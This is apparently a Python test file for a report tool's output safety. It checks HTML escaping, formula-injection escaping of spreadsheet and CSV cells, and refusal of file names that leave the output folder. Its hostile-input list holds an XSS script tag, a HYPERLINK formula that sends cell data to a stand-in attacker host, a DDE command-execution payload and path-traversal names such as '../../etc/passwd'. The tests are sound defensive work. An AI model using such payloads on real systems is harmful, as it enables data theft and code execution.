"""Output safety: names are text in every output, and nothing is written outside the chosen folder.

- ``quota.report.safety``: ``escape_html``, ``safe_cell`` (OWASP formula-injection rule), ``inside`` and
  ``safe_component``; the report's own copies of the two text rules (``quota.report.escape``) agree.
- ``write_run`` refuses a file name that would leave the run folder, before writing anything.
- Acceptance 5: projects named ``<script>alert(1)</script>`` and ``=HYPERLINK(...)`` (and ids such as
  ``../../x`` and ``@SUM(1)``) show as plain text in report.html and report.xlsx, and the run creates
  files only inside its run folder.
"""
from __future__ import annotations

import html
import os

import openpyxl
import pytest
from builder import county, project, write_scenario
from click.testing import CliRunner

from quota.commands.cli import cli
from quota.errors import QuotaError
from quota.report.safety import FORMULA_START, escape_html, inside, safe_cell, safe_component
from quota.report.write import write_run

HOSTILE = ["<script>alert(1)</script>", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "\t=1", "\r=1", "=cmd|' /C calc'!A0", "'quoted", "a\"b'c&d<e>f", "普通名称", "", "1-2", " =1+1"]


# ------------------------------------------------------------ utilities ----

@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_never_starts_a_formula(text):
    out = safe_cell(text)
    assert isinstance(out, str) and not out.startswith(FORMULA_START)
    assert out == (("'" + text) if text[:1] in "=+-@\t\r" and text else text)


@pytest.mark.parametrize("value", [12.5, -3, 0, None, True])
def test_safe_cell_leaves_other_values_alone(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", HOSTILE)
def test_escape_html(text):
    out = escape_html(text)
    assert "<" not in out and ">" not in out and '"' not in out and "'" not in out
    assert html.unescape(out) == text


@pytest.mark.parametrize("text", HOSTILE + [12.5, None])
def test_the_report_applies_the_same_rules(text):
    from quota.report import escape

    assert escape.safe_cell(text) == safe_cell(text)
    assert escape.escape_html(text) == escape_html(text)


@pytest.mark.parametrize("name", ["../x", "../../etc/passwd", "/etc/passwd", "a/../../x", "a/../..", ".", ""])
def test_inside_refuses_names_that_leave_the_folder(tmp_path, name):
    with pytest.raises(QuotaError, match="leaves the output folder"):
        inside(tmp_path / "run", name)


def test_inside_refuses_a_symlink_out_of_the_folder(tmp_path):
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "link").symlink_to(tmp_path)
    with pytest.raises(QuotaError):
        inside(tmp_path / "run", "link/x.csv")


@pytest.mark.parametrize("name", ["a.csv", "figures/a.png", "alternatives/alt-1/projects.csv", "甲县.csv"])
def test_inside_accepts_names_below_the_folder(tmp_path, name):
    assert inside(tmp_path, name) == (tmp_path / name).resolve()


@pytest.mark.parametrize("text", ["../../x", "..", ".hidden", "a/b", "a\\b", "x\x00y", "<script>", "P1", "甲县", "k=1.5", "x" * 300])
def test_safe_component_is_one_harmless_name(tmp_path, text):
    name = safe_component(text)
    assert name and "/" not in name and "\\" not in name and "\x00" not in name and not name.startswith(".")
    assert len(name) <= 89 and inside(tmp_path, name).parent == tmp_path.resolve()
    if text in ("P1", "甲县", "k=1.5"):
        assert name == text  # ordinary values stay readable
    assert safe_component("../../x") != safe_component("__x")  # values that had to change stay apart


def test_write_run_refuses_a_name_leaving_the_folder_and_writes_nothing(tmp_path):
    root = tmp_path / "area"
    root.mkdir()
    with pytest.raises(QuotaError, match="leaves the output folder"):
        write_run(root / "run", {"ok.csv": "a\n", "../../escaped.csv": "b\n"}, [], {})
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["area"]


# ---------------------------------------------------------- acceptance 5 ----

SCRIPT = "<script>alert(1)</script>"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """The tiny model with hostile names and ids, run to a full run folder (report.html, report.xlsx)."""
    root = tmp_path_factory.mktemp("hostile")
    scenario = write_scenario(
        root / "scenario",
        counties=[county(name="+1 县"), county(county_id="b", name="@乙县")],
        projects=[project(name=SCRIPT), project(project_id="../../x", name=LINK, area=8),
                  project(project_id="@SUM(1)", county_id="b", name="-学校", category="livelihood")],
        dependencies=[dict(project_id="@SUM(1)", requires="../../x")])
    before = {p for p in root.rglob("*")}
    out = root / "run"
    result = CliRunner().invoke(cli, ["run", str(scenario), "--out", str(out), "--counterfactuals", "off", "--lang", "en"])
    assert result.exit_code == 0, result.output
    created = {p for p in root.rglob("*")} - before
    return out, created, root


def test_names_are_plain_text_in_the_html_report(hostile_run):
    out, _, _ = hostile_run
    page = (out / "report.html").read_text(encoding="utf-8")
    assert SCRIPT not in page and "<script>alert" not in page
    assert html.escape(SCRIPT) in page
    assert html.escape(LINK) in page  # shown as text; the attribute-breaking quotes are escaped too
    assert 'href="http://evil.example' not in page


def test_names_are_plain_text_in_the_xlsx_report(hostile_run):
    out, _, _ = hostile_run
    book = openpyxl.load_workbook(out / "report.xlsx")
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} holds a formula: {c.value!r}"
                if isinstance(c.value, str):
                    assert not c.value.startswith(FORMULA_START), f"{ws.title}!{c.coordinate} = {c.value!r}"
                    texts.append(c.value)
    assert "'" + LINK in texts and SCRIPT in texts  # the names are there, as text
    assert "'@SUM(1)" in texts and "'-学校" in texts and "'+1 县" in texts


def test_nothing_is_written_outside_the_run_folder(hostile_run):
    out, created, root = hostile_run
    outside = [p for p in created if p != out and not p.is_relative_to(out)]
    assert outside == [], outside
    assert not (root.parent / "x").exists() and not (out.parent.parent / "x").exists()
    for p in out.rglob("*"):  # no file of the run folder is a link out of it
        assert not p.is_symlink() and p.resolve().is_relative_to(out.resolve())
    assert {".tmp-", ".old-"}.isdisjoint("".join(os.listdir(root)))


# ------------------------------------------------------------- CSV files ----

@pytest.mark.parametrize("text", HOSTILE + ["''=1", "'+x", "'", "''", "-", "=", "'abc"])
def test_read_cell_inverts_safe_cell(text):
    from quota.report.safety import read_cell

    assert read_cell(safe_cell(text)) == text


def test_safe_frame_leaves_numbers_alone():
    import pandas as pd

    from quota.report.safety import safe_frame, unsafe_frame

    frame = pd.DataFrame({"name": ["=1", "-2", "ok", ""], "area": [-1.5, 2.0, -3.0, 0.0], "n": [-1, 2, 3, 4],
                          "flag": [True, False, True, False], "=col": ["a", "b", "c", "d"]})
    safe = safe_frame(frame)
    assert list(safe["name"]) == ["'=1", "'-2", "ok", ""]
    assert safe["area"].tolist() == [-1.5, 2.0, -3.0, 0.0] and safe["n"].dtype == frame["n"].dtype
    assert list(safe.columns)[-1] == "'=col"
    back = unsafe_frame(safe)
    assert back.equals(frame)
    plain = pd.DataFrame({"a": ["x", "y"], "b": [-1.0, 2.0]})
    assert safe_frame(plain) is plain  # nothing to change: untouched


def test_every_csv_writer_applies_the_rule(tmp_path):
    """write_run (run folders, compare) and csv_text (sweep.csv) write formula-safe text, and read_csv
    gives the true values back; negative numbers stay numbers."""
    import pandas as pd

    from quota.report.safety import csv_text, read_csv

    frame = pd.DataFrame({"name": HOSTILE, "value": [-float(i) for i in range(len(HOSTILE))]})
    out = write_run(tmp_path / "out", {"t.csv": frame}, [], {})
    text = (out / "t.csv").read_bytes().decode("utf-8")
    assert text == csv_text(frame)
    import csv
    import io

    cells = [r[0] for r in csv.reader(io.StringIO(text))][1:]
    assert not [c for c in cells if c[:1] in FORMULA_START]
    assert ",-1.000000" in text  # numbers are not text
    back = read_csv(out / "t.csv", keep_default_na=False)
    assert list(back["name"]) == HOSTILE and list(back["value"]) == list(frame["value"])


def test_no_negative_zero_in_a_written_csv(tmp_path):
    import numpy as np
    import pandas as pd

    from quota.report.safety import read_csv, write_csv

    frame = pd.DataFrame({"room": [-0.0, -1e-9, -4e-7, -2e-6, 1.5, np.nan], "name": ["-a", "b", "c", "d", "e", "f"]})
    write_csv(frame, tmp_path / "t.csv")
    text = (tmp_path / "t.csv").read_text(encoding="utf-8")
    assert "-0.000000" not in text and "-0.000002" in text and "1.500000" in text
    assert read_csv(tmp_path / "t.csv")["room"].isna().tolist() == [False] * 5 + [True]
